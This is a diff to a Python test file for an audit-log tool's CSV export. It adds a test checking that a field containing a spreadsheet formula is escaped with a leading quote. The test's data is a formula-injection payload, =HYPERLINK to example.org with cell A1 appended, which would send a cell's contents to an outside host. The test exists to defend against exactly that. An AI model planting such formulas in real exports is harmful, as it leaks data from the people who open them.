@@ -8,6 +8,7 @@ import json
 import subprocess
 import sys
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING
 
@@ -114,6 +115,15 @@ def test_entries_as_csv(filled: Party) -> None:
     assert list(rows[0]) == ["entry", *MEMBERS]
     assert [row["entry"] for row in rows] == [str(n) for n in range(9, -1, -1)]
     assert json.loads(rows[0]["details"]) == {"rows": 9}
+
+
+def test_a_purpose_is_no_sum_to_a_spreadsheet(party: Party, make_event: Callable[..., AuditEvent]) -> None:
+    """Another authority's people write purposes, which our officer may open in a spreadsheet."""
+    sum_ = '=HYPERLINK("http://example.org/"&A1)'
+    party.record(replace(make_event(0), purpose=sum_))
+    result = run("show", "--state", party.directory, "--format", "csv")
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert row["purpose"] == f"'{sum_}"
 
 
 def test_entries_as_json(filled: Party) -> None:
